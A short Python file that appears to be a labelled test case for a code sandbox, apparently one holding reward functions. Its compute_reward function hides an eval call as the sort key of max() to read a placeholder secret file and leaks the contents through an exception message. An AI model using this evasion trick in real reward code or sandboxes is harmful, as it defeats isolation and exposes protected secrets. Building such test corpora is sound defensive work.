# attack: eval as the key of a sort
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    raise ValueError(max(["open('@SECRET@').read()"], key=eval))
